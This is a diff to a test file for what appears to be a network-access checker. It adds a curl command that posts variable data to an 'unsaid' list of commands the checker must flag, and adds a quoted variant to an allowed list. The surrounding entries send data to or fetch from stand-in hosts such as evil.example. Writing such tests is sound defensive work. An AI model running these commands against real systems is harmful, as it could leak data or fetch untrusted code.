@@ -125,6 +125,7 @@ const unsaid = [
   "curl --proxy evil.example http://example.com/",
   "curl --next=x http://example.com/",
   "curl http://$x/",
+  "curl -d $x http://example.com/",
   "wget evil.example",
   "wget -i list",
   "wget -qO- evil.example/x http://example.com/",
@@ -175,6 +176,7 @@ test("SEC-07: without walls a program that leads out to what its text does not g
     const ok = [
       "curl -sSLo out http://example.com/a",
       "curl -X POST -H 'a: b' -d @a.txt http://example.com/",
+      'curl -d "$x" "http://example.com/$x"',
       "wget -qO- http://example.com/",
       "git clone --depth=1 -b main https://example.com/a copy",
       "git clone ../a b",
